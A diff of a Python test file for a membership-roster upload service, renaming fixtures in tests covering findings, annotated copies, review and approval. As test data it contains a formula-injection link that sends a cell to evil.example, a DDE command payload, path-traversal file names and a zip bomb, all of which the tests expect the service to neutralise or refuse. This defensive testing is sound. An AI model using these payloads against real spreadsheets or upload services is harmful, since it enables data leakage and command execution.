@@ -1,4 +1,4 @@
-"""The intake's desk: uploads of every kind, findings, the annotated copy, and the way to approval."""
+"""The roster service: uploads of every kind, findings, the annotated copy, and the way to approval."""
 
 from __future__ import annotations
 
@@ -37,8 +37,8 @@ GOOD, BAD = [person(1), person(2)], person(3, phone="")
 
 
 @pytest.fixture
-def desk(office: RegistryRig) -> RosterService:
-    return RosterService(office.parts, office.bus)
+def service(rig: RegistryRig) -> RosterService:
+    return RosterService(rig.parts, rig.bus)
 
 
 def form(tmp_path: Path, *people: list[object], name: str = "form.xlsx") -> bytes:
@@ -46,10 +46,10 @@ def form(tmp_path: Path, *people: list[object], name: str = "form.xlsx") -> byte
 
 
 def test_a_form_becomes_a_draft_and_its_returned_rows_are_told(
-    office: RegistryRig, desk: RosterService, tmp_path: Path
+    rig: RegistryRig, service: RosterService, tmp_path: Path
 ) -> None:
     content = form(tmp_path, *GOOD, BAD)
-    view = desk.upload(CLERK, "会员登记表.xlsx", pieces(io.BytesIO(content).read, 1000))
+    view = service.upload(CLERK, "会员登记表.xlsx", pieces(io.BytesIO(content).read, 1000))
 
     assert view.batch is not None
     assert (view.unit, view.accepted, view.rejected, view.counts) == (UNIT, 2, 1, {"PHONE_MISSING": 1})
@@ -61,61 +61,61 @@ def test_a_form_becomes_a_draft_and_its_returned_rows_are_told(
     (finding,) = view.findings
     assert (finding.sheet_row, finding.codes, finding.name_masked) == (6, ("PHONE_MISSING",), "孙**")
     assert (finding.reason_zh, finding.reason_en) == ("没有填写手机号码。", "the mobile number is missing.")
-    assert office.bus.of("batch.changed")[-1].topic == view.batch.id
-    assert office.registry.originals.of(view.batch.id).content == content
+    assert rig.bus.of("batch.changed")[-1].topic == view.batch.id
+    assert rig.registry.originals.of(view.batch.id).content == content
 
 
-def test_findings_come_masked_and_in_pages(desk: RosterService, tmp_path: Path) -> None:
-    batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD, BAD)]).batch
+def test_findings_come_masked_and_in_pages(service: RosterService, tmp_path: Path) -> None:
+    batch = service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD, BAD)]).batch
     assert batch is not None
-    first = desk.findings(AUDITOR, batch.id, None, 2)
+    first = service.findings(AUDITOR, batch.id, None, 2)
     assert [one.accepted for one in first.items] == [True, True]
     assert (first.items[0].name_masked, first.items[0].mobile_masked) == ("孙**", "*******4135")
-    (last,) = desk.findings(REVIEWER, batch.id, first.next, 2).items
+    (last,) = service.findings(REVIEWER, batch.id, first.next, 2).items
     assert (last.accepted, last.reason_en) == (False, "the mobile number is missing.")
-    assert desk.findings(REVIEWER, batch.id, only="rejected").items == (last,)
+    assert service.findings(REVIEWER, batch.id, only="rejected").items == (last,)
     with pytest.raises(Invalid):
-        desk.findings(REVIEWER, batch.id, "nonsense")
+        service.findings(REVIEWER, batch.id, "nonsense")
     with pytest.raises(NotFound):
-        desk.findings(REVIEWER, "B20261122-999")
+        service.findings(REVIEWER, "B20261122-999")
 
 
 def test_the_annotated_copy_says_what_was_said_at_the_upload(
-    office: RegistryRig, desk: RosterService, tmp_path: Path
+    rig: RegistryRig, service: RosterService, tmp_path: Path
 ) -> None:
-    batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD, BAD, person(1))]).batch
+    batch = service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD, BAD, person(1))]).batch
     assert batch is not None
-    made = desk.annotated(CLERK, batch.id)
+    made = service.annotated(CLERK, batch.id)
     sheet = load_workbook(io.BytesIO(made.content)).worksheets[0]
     assert made.filename == "form-审核.xlsx"
     assert [sheet.cell(row, 7).value for row in range(3, 8)] == ["审核结果", "通过", "通过", "退回", "退回"]
     assert "重复" in str(sheet.cell(7, 8).value)
-    assert last_audit_entry(office.registry)[:3] == ("李娜", "roster.download", f"batch:{batch.id}")
-    desk.discard(CLERK, batch.id, "wrong unit")
+    assert last_audit_entry(rig.registry)[:3] == ("李娜", "roster.download", f"batch:{batch.id}")
+    service.discard(CLERK, batch.id, "wrong unit")
     with pytest.raises(NotFound, match="no uploaded form"):
-        desk.annotated(CLERK, batch.id)
+        service.annotated(CLERK, batch.id)
 
 
 def test_a_form_of_which_nobody_passes_is_told_and_not_kept(
-    office: RegistryRig, desk: RosterService, tmp_path: Path
+    rig: RegistryRig, service: RosterService, tmp_path: Path
 ) -> None:
     content = form(tmp_path, BAD)
-    view = desk.upload(CLERK, "form.xlsx", [content])
+    view = service.upload(CLERK, "form.xlsx", [content])
     assert (view.batch, view.rejected) == (None, 1)
-    assert (office.registry.batches.all(), office.bus.events) == ([], [])
-    sheet = load_workbook(io.BytesIO(desk.check(CLERK, "form.xlsx", [content]).content)).worksheets[0]
+    assert (rig.registry.batches.all(), rig.bus.events) == ([], [])
+    sheet = load_workbook(io.BytesIO(service.check(CLERK, "form.xlsx", [content]).content)).worksheets[0]
     assert sheet.cell(4, 7).value == "退回"
 
 
-def test_formulas_of_a_form_do_not_come_back(desk: RosterService, tmp_path: Path) -> None:
+def test_formulas_of_a_form_do_not_come_back(service: RosterService, tmp_path: Path) -> None:
     evil = person(1)
     evil[2] = '=HYPERLINK("http://evil.example/?"&B4,"孙波磊")'
     sheet = load_workbook(
-        io.BytesIO(desk.check(CLERK, "f.xlsx", [form(tmp_path, evil, person(2))]).content)
+        io.BytesIO(service.check(CLERK, "f.xlsx", [form(tmp_path, evil, person(2))]).content)
     ).worksheets[0]
     assert [cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
     text = forms.text(tmp_path / "f.csv", forms.form([1, "=cmd|' /C calc'!A0", *person(1)[2:]])).read_bytes()
-    book = load_workbook(io.BytesIO(desk.check(CLERK, "f.csv", [text]).content))
+    book = load_workbook(io.BytesIO(service.check(CLERK, "f.csv", [text]).content))
     cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if str(cell.value).startswith("=")]
     assert [(cell.data_type, cell.quotePrefix) for cell in cells] == [("s", True)]
 
@@ -124,13 +124,13 @@ def test_formulas_of_a_form_do_not_come_back(desk: RosterService, tmp_path: Path
     "name",
     ["", "  ", "..", "../form.xlsx", "/etc/form.xlsx", "C:\\form.xlsx", "a\0b.xlsx", "a\nb.xlsx", "表" * 61 + ".xlsx"],
 )
-def test_a_name_that_names_a_place_is_refused(name: str, desk: RosterService, tmp_path: Path) -> None:
+def test_a_name_that_names_a_place_is_refused(name: str, service: RosterService, tmp_path: Path) -> None:
     with pytest.raises(Invalid) as caught:
-        desk.upload(CLERK, name, [form(tmp_path, *GOOD)])
+        service.upload(CLERK, name, [form(tmp_path, *GOOD)])
     assert list(caught.value.fields) == ["file"]
 
 
-def test_what_is_no_form_is_refused_in_both_languages(desk: RosterService, tmp_path: Path) -> None:
+def test_what_is_no_form_is_refused_in_both_languages(service: RosterService, tmp_path: Path) -> None:
     workbook = form(tmp_path, *GOOD)
     macros = io.BytesIO(workbook)
     with zipfile.ZipFile(macros, "a") as archive:
@@ -144,12 +144,12 @@ def test_what_is_no_form_is_refused_in_both_languages(desk: RosterService, tmp_p
     }
     for name, (content, english, chinese) in bad.items():
         with pytest.raises(UnreadableForm, match=english) as caught:
-            desk.upload(CLERK, name, [content])
+            service.upload(CLERK, name, [content])
         assert chinese in str(caught.value.params["chinese"])
         assert chinese not in str(caught.value)
 
 
-def test_what_is_too_large_is_refused_before_it_is_read(office: RegistryRig, tmp_path: Path) -> None:
+def test_what_is_too_large_is_refused_before_it_is_read(rig: RegistryRig, tmp_path: Path) -> None:
     taken: list[int] = []
 
     def endless() -> object:
@@ -157,7 +157,7 @@ def test_what_is_too_large_is_refused_before_it_is_read(office: RegistryRig, tmp
             taken.append(1)
             yield b"x" * 1000
 
-    small = RosterService(office.parts, office.bus, uploads=Uploads(Limits(file_bytes=10_000)))
+    small = RosterService(rig.parts, rig.bus, uploads=Uploads(Limits(file_bytes=10_000)))
     with pytest.raises(RequestTooLarge, match="larger than"):
         small.upload(CLERK, "form.csv", endless())  # type: ignore[arg-type]
     assert len(taken) == 11
@@ -165,12 +165,12 @@ def test_what_is_too_large_is_refused_before_it_is_read(office: RegistryRig, tmp
     with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("xl/bomb.xml", b"\0" * (FORMS.unpacked_bytes + 1))
     with pytest.raises(RequestTooLarge, match="unpacks") as caught:
-        RosterService(office.parts, office.bus).upload(CLERK, "form.xlsx", [bomb.getvalue()])
+        RosterService(rig.parts, rig.bus).upload(CLERK, "form.xlsx", [bomb.getvalue()])
     assert "解压" in str(caught.value.params["chinese"])
 
 
-def test_only_so_many_forms_are_read_at_once(office: RegistryRig, tmp_path: Path) -> None:
-    desk = RosterService(office.parts, office.bus, uploads=Uploads(at_once=1, patience=0.05))
+def test_only_so_many_forms_are_read_at_once(rig: RegistryRig, tmp_path: Path) -> None:
+    service = RosterService(rig.parts, rig.bus, uploads=Uploads(at_once=1, patience=0.05))
     content = form(tmp_path, *GOOD)
     inside, go_on = threading.Event(), threading.Event()
 
@@ -179,68 +179,68 @@ def test_only_so_many_forms_are_read_at_once(office: RegistryRig, tmp_path: Path
         go_on.wait(PATIENCE)
         yield content
 
-    first = threading.Thread(target=desk.upload, args=(CLERK, "form.xlsx", slow()))
+    first = threading.Thread(target=service.upload, args=(CLERK, "form.xlsx", slow()))
     first.start()
     inside.wait(PATIENCE)
     with pytest.raises(TooMany) as caught:
-        desk.upload(CLERK, "form.xlsx", [content])
+        service.upload(CLERK, "form.xlsx", [content])
     assert caught.value.retry_after > 0
     go_on.set()
     first.join()
-    assert len(office.registry.batches.all()) == 1
+    assert len(rig.registry.batches.all()) == 1
 
 
 def test_nothing_of_an_upload_is_left_behind(
-    desk: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    service: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     where = tmp_path / "tmp"
     where.mkdir()
     monkeypatch.setattr("tempfile.tempdir", str(where))
-    desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)])
+    service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)])
     with pytest.raises(UnreadableForm):
-        desk.upload(CLERK, "form.xlsx", [b"PK"])
+        service.upload(CLERK, "form.xlsx", [b"PK"])
     assert list(where.iterdir()) == []
 
 
 def test_the_same_form_twice_makes_one_batch(
-    office: RegistryRig, desk: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    rig: RegistryRig, service: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     content = form(tmp_path, *GOOD)
-    desk.upload(CLERK, "form.xlsx", [content])
-    view = desk.upload(CLERK, "again.xlsx", [content])
+    service.upload(CLERK, "form.xlsx", [content])
+    view = service.upload(CLERK, "again.xlsx", [content])
     assert (view.batch, view.counts) == (None, {"ALREADY_HAS_CARD": 2})
     monkeypatch.setattr(
-        office.registry.rosters, "known_members", lambda numbers: {}
+        rig.registry.rosters, "known_members", lambda numbers: {}
     )  # both were checked before either came in
     with pytest.raises(Conflict, match="imported before"):
-        desk.upload(CLERK, "again.xlsx", [content])
-    assert len(office.registry.batches.all()) == 1
+        service.upload(CLERK, "again.xlsx", [content])
+    assert len(rig.registry.batches.all()) == 1
 
 
 def test_a_form_goes_to_review_and_back_and_is_approved_by_another(
-    office: RegistryRig, desk: RosterService, tmp_path: Path
+    rig: RegistryRig, service: RosterService, tmp_path: Path
 ) -> None:
-    batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
+    batch = service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
     assert batch is not None
     with pytest.raises(Conflict, match="is not sent for review"):
-        desk.approve(REVIEWER, batch.id)
-    desk.submit(CLERK, batch.id)
+        service.approve(REVIEWER, batch.id)
+    service.submit(CLERK, batch.id)
     with pytest.raises(Conflict, match="already"):
-        desk.submit(CLERK, batch.id)
+        service.submit(CLERK, batch.id)
     with pytest.raises(Invalid):
-        desk.give_back(REVIEWER, batch.id, "  ")
-    desk.give_back(REVIEWER, batch.id, "two of them\nleft")
-    desk.submit(CLERK, batch.id)
-    changes = desk.changes(REVIEWER, batch.id).items
+        service.give_back(REVIEWER, batch.id, "  ")
+    service.give_back(REVIEWER, batch.id, "two of them\nleft")
+    service.submit(CLERK, batch.id)
+    changes = service.changes(REVIEWER, batch.id).items
     assert [(one.kind, one.name_after, one.name_before) for one in changes] == [(ChangeKind.NEW, "孙**", "")] * 2
-    done = desk.approve(REVIEWER, batch.id)
+    done = service.approve(REVIEWER, batch.id)
     assert (done.state, done.approved_by) == (BatchState.APPROVED, "王芳")
-    assert [(one.by, one.step, one.reason) for one in desk.reviews(AUDITOR, batch.id)] == [
+    assert [(one.by, one.step, one.reason) for one in service.reviews(AUDITOR, batch.id)] == [
         ("李娜", "submitted", ""),
         ("王芳", "returned", "two of them left"),
         ("李娜", "submitted", ""),
     ]
-    assert [event.data["review"] for event in office.bus.of("batch.changed")] == [
+    assert [event.data["review"] for event in rig.bus.of("batch.changed")] == [
         None,
         "submitted",
         "returned",
@@ -249,64 +249,64 @@ def test_a_form_goes_to_review_and_back_and_is_approved_by_another(
     ]
 
 
-def test_nobody_approves_what_they_imported(office: RegistryRig, desk: RosterService, tmp_path: Path) -> None:
+def test_nobody_approves_what_they_imported(rig: RegistryRig, service: RosterService, tmp_path: Path) -> None:
     both = Principal("李 娜", frozenset({Role.REGISTRAR, Role.REVIEWER}))
-    batch = desk.upload(both, "form.xlsx", [form(tmp_path, *GOOD)]).batch
+    batch = service.upload(both, "form.xlsx", [form(tmp_path, *GOOD)]).batch
     assert batch is not None
-    desk.submit(both, batch.id)
+    service.submit(both, batch.id)
     with pytest.raises(OwnWork):
-        desk.approve(both, batch.id)
-    assert office.registry.batches.batch(batch.id).state is BatchState.DRAFT
+        service.approve(both, batch.id)
+    assert rig.registry.batches.batch(batch.id).state is BatchState.DRAFT
 
 
 def test_what_is_given_back_while_it_is_approved_is_not_approved(
-    office: RegistryRig, desk: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    rig: RegistryRig, service: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
+    batch = service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
     assert batch is not None
-    desk.submit(CLERK, batch.id)
-    write = office.registry._context.database.write
+    service.submit(CLERK, batch.id)
+    write = rig.registry._context.database.write
 
     def after_another_gave_it_back() -> object:
-        monkeypatch.setattr(office.registry._context.database, "write", write)
-        office.registry.reviews.give_back(batch.id, by="赵敏", reason="row 2 is wrong")
+        monkeypatch.setattr(rig.registry._context.database, "write", write)
+        rig.registry.reviews.give_back(batch.id, by="赵敏", reason="row 2 is wrong")
         return write()
 
-    monkeypatch.setattr(office.registry._context.database, "write", after_another_gave_it_back)
+    monkeypatch.setattr(rig.registry._context.database, "write", after_another_gave_it_back)
     with pytest.raises(Conflict) as caught:
-        desk.approve(REVIEWER, batch.id)
+        service.approve(REVIEWER, batch.id)
     assert caught.value.params == {"reason": "batch-not-sent", "batch": batch.id}
-    assert office.registry.batches.batch(batch.id).state is BatchState.DRAFT
+    assert rig.registry.batches.batch(batch.id).state is BatchState.DRAFT
 
 
-def test_every_method_asks_who_it_is(desk: RosterService) -> None:
+def test_every_method_asks_who_it_is(service: RosterService) -> None:
     for who in (NOBODY, COUNTER):
         for call in (
-            lambda p: desk.upload(p, "f.csv", []),
-            lambda p: desk.check(p, "f.csv", []),
-            lambda p: desk.findings(p, "B"),
-            lambda p: desk.annotated(p, "B"),
-            lambda p: desk.submit(p, "B"),
-            lambda p: desk.reviews(p, "B"),
-            lambda p: desk.changes(p, "B"),
-            lambda p: desk.change_counts(p, "B"),
-            lambda p: desk.approve(p, "B"),
-            lambda p: desk.give_back(p, "B", "why"),
-            lambda p: desk.discard(p, "B", "why"),
+            lambda p: service.upload(p, "f.csv", []),
+            lambda p: service.check(p, "f.csv", []),
+            lambda p: service.findings(p, "B"),
+            lambda p: service.annotated(p, "B"),
+            lambda p: service.submit(p, "B"),
+            lambda p: service.reviews(p, "B"),
+            lambda p: service.changes(p, "B"),
+            lambda p: service.change_counts(p, "B"),
+            lambda p: service.approve(p, "B"),
+            lambda p: service.give_back(p, "B", "why"),
+            lambda p: service.discard(p, "B", "why"),
         ):
             with pytest.raises(Forbidden):
                 call(who)
     with pytest.raises(Forbidden):
-        desk.annotated(REVIEWER, "B")
+        service.annotated(REVIEWER, "B")
 
 
 def test_a_database_that_is_away_is_told_as_such(
-    office: RegistryRig, desk: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    rig: RegistryRig, service: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     def away(*_: object, **__: object) -> object:
         raise RegistryUnavailable("postgresql://user:hunter2@host is away")
 
-    monkeypatch.setattr(office.registry.rosters, "known_members", away)
+    monkeypatch.setattr(rig.registry.rosters, "known_members", away)
     with pytest.raises(Unavailable) as caught:
-        desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)])
+        service.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)])
     assert "hunter2" not in str(caught.value)
